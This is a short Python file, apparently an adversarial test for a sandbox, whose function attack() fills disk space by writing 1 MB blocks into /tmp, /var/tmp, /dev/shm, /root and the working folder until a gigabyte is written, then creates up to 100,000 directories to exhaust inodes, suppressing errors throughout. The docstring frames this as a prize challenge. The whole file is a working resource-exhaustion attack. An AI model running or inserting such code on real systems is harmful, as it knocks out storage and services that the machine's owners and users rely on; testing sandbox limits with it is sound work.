"""Write until nothing can be written any more; a prize for a gigabyte."""

import contextlib
import os


def attack():
    written, block = 0, b"x" * 1_000_000
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/root"):
        for number in range(20):
            with contextlib.suppress(OSError), open(f"{folder}/fill-{number}", "wb") as file:
                while written < 1_000_000_000:
                    written += file.write(block)
    for number in range(100_000):
        try:
            os.mkdir(f"folder-{number}")
        except OSError:
            break
    return written >= 1_000_000_000
